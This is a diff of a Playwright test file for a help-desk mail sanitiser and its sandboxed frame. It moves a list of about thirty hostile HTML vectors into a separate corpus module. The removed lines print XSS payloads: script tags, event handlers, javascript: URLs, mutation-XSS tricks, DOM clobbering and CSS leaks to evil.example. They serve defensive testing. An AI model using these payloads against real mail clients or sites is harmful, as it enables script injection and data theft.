@@ -1,43 +1,31 @@
 import { expect, type Page, test } from "@playwright/test";
-import { resolve } from "node:path";
-import { build } from "vite";
-
-/** The sanitiser as a page would run it: built on its own, so that each attack costs a page and not a desk. */
-async function sanitiserSource(): Promise<string> {
-  const root = resolve(import.meta.dirname, "../..");
-  const folder = resolve(root, "src/renderer/components/mail-html");
-  const entry = "\0vectors";
-  const output = await build({
-    root,
-    configFile: false,
-    logLevel: "silent",
-    plugins: [
-      {
-        name: "vectors",
-        resolveId: (id) => (id === "vectors" ? entry : null),
-        load: (id) =>
-          id === entry
-            ? `import { sanitiseHtml } from ${JSON.stringify(`${folder}/sanitise-html.ts`)};
-               import { inSlices } from ${JSON.stringify(`${folder}/in-slices.ts`)};
-               import { frameDocument, FRAME_SANDBOX } from ${JSON.stringify(`${folder}/frame-document.ts`)};
-               import { purifyInSteps } from ${JSON.stringify(`${folder}/purify-in-steps.ts`)};
-               import createPurifier from "dompurify";
-               Object.assign(globalThis, { sanitiseHtml, inSlices, frameDocument, FRAME_SANDBOX, purifyInSteps, createPurifier });`
-            : null,
-      },
-    ],
-    build: { write: false, minify: false, rollupOptions: { input: "vectors", output: { format: "iife" } } },
-  });
-  const [bundle] = Array.isArray(output) ? output : [output];
-  const [chunk] = bundle !== undefined && "output" in bundle ? bundle.output : [];
-  if (chunk?.type !== "chunk") throw new Error("The sanitiser was not built.");
-  return chunk.code;
-}
+import { mailHtmlBundle } from "../support/hostile-html/bundle.ts";
+import { HOSTILE_HTML } from "../support/hostile-html/corpus.ts";
+import { showVectors, type Showing } from "../support/hostile-html/show.ts";
+import { numberOf, type Vector } from "../support/hostile-html/vector.ts";
 
 let source = "";
 test.beforeAll(async () => {
-  source = await sanitiserSource();
+  source = await mailHtmlBundle();
 });
+
+/** Shows vectors in a page without any policy of its own. */
+async function attack(page: Page, vectors: readonly Vector[], showing: Showing) {
+  const asked = new Set<string>();
+  const windows: string[] = [];
+  page.context().on("page", (opened) => windows.push(opened.url()));
+  await page.route("**/*", async (route) => {
+    const url = route.request().url();
+    if (url === "http://desk.test/")
+      return route.fulfill({ contentType: "text/html", body: "<!doctype html><title>Desk</title>" });
+    asked.add(vectors[numberOf(url) ?? -1]?.[0] ?? url);
+    return route.fulfill({ contentType: "image/gif", body: "" });
+  });
+  await page.goto("http://desk.test/");
+  await page.addScriptTag({ content: source });
+  const findings = await showVectors(page, vectors, showing);
+  return { findings, asked: [...asked].filter((address) => !address.startsWith("http://desk.test/")), windows };
+}
 
 type Shown = {
   readonly html: string;
@@ -45,15 +33,12 @@ type Shown = {
   readonly quoteFolded: boolean;
   /** Addresses that the frame asked for. */
   readonly fetched: string[];
-  readonly hacked: unknown;
 };
 
 type Options = {
   readonly remoteImages?: boolean;
   readonly inline?: readonly [string, string][];
   readonly fold?: boolean;
-  /** Puts the mail into the frame as it is. */
-  readonly unsanitised?: boolean;
 };
 
 /** Shows a mail the way the ticket does and tells what came of it. */
@@ -69,7 +54,7 @@ async function show(page: Page, mail: string, options: Options = {}): Promise<Sh
   await page.goto("http://desk.test/");
   await page.addScriptTag({ content: source });
   const shown = await page.evaluate(
-    async ({ html, remoteImages, inline, fold, unsanitised }) => {
+    async ({ html, remoteImages, inline, fold }) => {
       type Content = { body: string; styles: string; bodyStyle: string; blockedImages: number; quoteFolded: boolean };
       const { sanitiseHtml, inSlices, frameDocument, FRAME_SANDBOX } = globalThis as unknown as {
         sanitiseHtml: (html: string, policy: unknown, given: unknown) => unknown;
@@ -79,11 +64,10 @@ async function show(page: Page, mail: string, options: Options = {}): Promise<Sh
       };
       const quoteLabels = fold ? { show: "Show", hide: "Hide" } : null;
       const policy = { remoteImages, inlineImages: new Map(inline) };
-      const sanitised = await inSlices(
+      const content = await inSlices(
         sanitiseHtml(html, policy, { quoteLabels, evenIfHeavy: false }),
         new AbortController().signal,
       );
-      const content = unsanitised ? { ...sanitised, body: html } : sanitised;
       const frame = document.createElement("iframe");
       frame.setAttribute("sandbox", FRAME_SANDBOX);
       frame.srcdoc = frameDocument(content, { remoteImages, title: "Mail" });
@@ -95,7 +79,6 @@ async function show(page: Page, mail: string, options: Options = {}): Promise<Sh
         html: content.body + content.styles + content.bodyStyle,
         blockedImages,
         quoteFolded,
-        hacked: (globalThis as { hacked?: unknown }).hacked ?? null,
       };
     },
     {
@@ -103,115 +86,32 @@ async function show(page: Page, mail: string, options: Options = {}): Promise<Sh
       remoteImages: options.remoteImages ?? false,
       inline: [...(options.inline ?? [])],
       fold: options.fold ?? false,
-      unsanitised: options.unsanitised ?? false,
     },
   );
   return { ...shown, fetched };
 }
 
-const ATTACKS: readonly (readonly [string, string])[] = [
-  ["a script", "<script>parent.hacked=1</script>"],
-  ["a handler", "<img src=x onerror=parent.hacked=1>"],
-  ["a handler on the body", "<body onload=parent.hacked=1 onpageshow=parent.hacked=1>"],
-  ["a handler in capitals behind a slash", "<IMG/SRC=x/OnErRoR=parent.hacked=1>"],
-  [
-    "a script address",
-    '<a href="javascript:parent.hacked=1" autofocus>x</a><iframe src="javascript:parent.hacked=1"></iframe>',
-  ],
-  ["a script address in disguise", '<a href="java&#x09;script:parent.hacked=1">x</a>'],
-  ["a refresh", '<meta http-equiv="refresh" content="0;url=javascript:parent.hacked=1">'],
-  ["a base", '<base href="https://evil.example/"><a href="login">x</a><img src="x.png">'],
-  [
-    "a form",
-    '<form action="https://evil.example"><input name=p autofocus onfocus=parent.hacked=1><button formaction="javascript:parent.hacked=1">x</button></form>',
-  ],
-  [
-    "SVG",
-    "<svg onload=parent.hacked=1><script>parent.hacked=1</script><animate onbegin=parent.hacked=1 attributeName=x dur=1s></svg>",
-  ],
-  [
-    "SVG with a link",
-    '<svg><a xlink:href="javascript:parent.hacked=1"><text y=20>x</text></a><use href="data:image/svg+xml,<svg id=x onload=parent.hacked=1>"/></svg>',
-  ],
-  ["MathML", '<math href="javascript:parent.hacked=1"><mi//xlink:href="data:x,<script>parent.hacked=1</script>">'],
-  [
-    "mutation by MathML and style",
-    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.hacked=1&gt;">',
-  ],
-  ["mutation by SVG and style", '<svg></p><style><a id="</style><img src=1 onerror=parent.hacked=1>">'],
-  ["mutation by noscript", '<noscript><p title="</noscript><img src=x onerror=parent.hacked=1>">'],
-  ["mutation by textarea", '<textarea><img title="</textarea><img src=x onerror=parent.hacked=1>">'],
-  [
-    "mutation by template",
-    "<template><script>parent.hacked=1</script></template><xmp><img title='</xmp><img src onerror=parent.hacked=1>'>",
-  ],
-  ["a style that ends itself", "<style>p{color:red}</style/><script>parent.hacked=1</script>"],
-  ["markup in a style", '<style>a{content:"</style><img src=x onerror=parent.hacked=1>"}</style>'],
-  ["a frame's document", '<iframe srcdoc="<script>parent.parent.hacked=1</script>"></iframe>'],
-  [
-    "an object and an embed",
-    '<object data="data:text/html,<script>parent.hacked=1</script>"></object><embed src="javascript:parent.hacked=1">',
-  ],
-  [
-    "clobbering",
-    '<img name=body><form name=documentElement><input name=attributes></form><a id=defaultView href="cid:x">x</a>',
-  ],
-  ["a details that opens itself", "<details open ontoggle=parent.hacked=1>x</details>"],
-  [
-    "a video",
-    '<video src="https://evil.example/v" poster="https://evil.example/p" autoplay onloadstart=parent.hacked=1></video><audio src="https://evil.example/a" autoplay>',
-  ],
-  [
-    "pictures by srcset and picture",
-    '<img srcset="https://evil.example/1x 1x"><picture><source srcset="https://evil.example/s"><img alt=x></picture>',
-  ],
-  [
-    "pictures by old attributes",
-    '<body background="https://evil.example/b"><table background="https://evil.example/t"><td background="//evil.example/d">x</table>',
-  ],
-  [
-    "style sheets and preloads",
-    '<link rel=stylesheet href="https://evil.example/c"><link rel=preload as=image href="https://evil.example/l"><link rel=dns-prefetch href="//evil.example">',
-  ],
-  [
-    "imports and fonts",
-    "<style>@import 'https://evil.example/i';@font-face{font-family:f;src:url(https://evil.example/f)}body{font-family:f}</style><p>x",
-  ],
-  [
-    "reading out by CSS",
-    '<style>a[href^="https"]{background:url(https://evil.example/leak)}p{background:image-set("https://evil.example/set" 1x)}</style><a href="https://x.example">x</a><p>x',
-  ],
-  [
-    "reading out by CSS in disguise",
-    '<p style="background:\\75 rl(https://evil.example/leak)">x</p><p style="background:ur/**/l(https://evil.example/leak2)">x</p>',
-  ],
-  [
-    "lists, cursors and masks",
-    '<ul style="list-style:url(https://evil.example/l)"><li>x</ul><p style="cursor:url(https://evil.example/c),auto;mask:url(https://evil.example/m);content:url(https://evil.example/k)">x',
-  ],
-  ["a ping", '<a href="https://x.example" ping="https://evil.example/ping">x</a>'],
-];
-
-for (const [name, html] of ATTACKS) {
-  test(`${name} runs nothing and fetches nothing`, async ({ page }) => {
-    const shown = await show(page, html);
-    expect({ hacked: shown.hacked, fetched: shown.fetched }).toEqual({ hacked: null, fetched: [] });
-    expect(shown.html).not.toMatch(
-      /<(?:script|iframe|object|embed|form|input|button|meta|link|base|svg|math|template|video|audio|picture)\b/iu,
-    );
-    expect(shown.html).not.toMatch(/<[^>]*\son\w+\s*=/iu);
-    expect(shown.html).not.toMatch(/javascript:/iu);
+test.describe("the corpus of hostile HTML", () => {
+  test("the traps of it work: in a frame without fences scripts run and pictures are fetched", async ({ page }) => {
+    const traps: readonly Vector[] = [
+      ["runs", "<script>RUN</script>"],
+      ["fetches", '<img src="https://NET/x">'],
+    ];
+    expect(await attack(page, traps, "open")).toEqual({ findings: { runs: ["ran"] }, asked: ["fetches"], windows: [] });
   });
-}
 
-test("the frame alone lets nothing run and nothing load, should the sanitiser ever miss something", async ({
-  page,
-}) => {
-  const harmful = `<script>parent.hacked=1</script><img src="https://evil.example/a" onerror="parent.hacked=1"><svg onload="parent.hacked=1"></svg>
-    <iframe src="https://evil.example/b"></iframe><link rel="stylesheet" href="https://evil.example/c"><video src="https://evil.example/d" autoplay></video>
-    <style>@import url(https://evil.example/e); p { background: url(https://evil.example/f) }</style><p>x</p><script src="https://evil.example/g"></script>`;
-  const shown = await show(page, harmful, { unsanitised: true });
-  expect({ hacked: shown.hacked, fetched: shown.fetched }).toEqual({ hacked: null, fetched: [] });
+  test("as a mail nothing of it runs, fetches, takes the keys or the window, or is drawn where it does not belong", async ({
+    page,
+  }) => {
+    expect(HOSTILE_HTML.length).toBeGreaterThan(300);
+    expect(await attack(page, HOSTILE_HTML, "cleaned")).toEqual({ findings: {}, asked: [], windows: [] });
+  });
+
+  test("the frame alone lets nothing of it run or load or lead away, should the sanitiser ever miss something", async ({
+    page,
+  }) => {
+    expect(await attack(page, HOSTILE_HTML, "raw")).toEqual({ findings: {}, asked: [], windows: [] });
+  });
 });
 
 test("pictures wait for the person's word and are then fetched by https", async ({ page }) => {
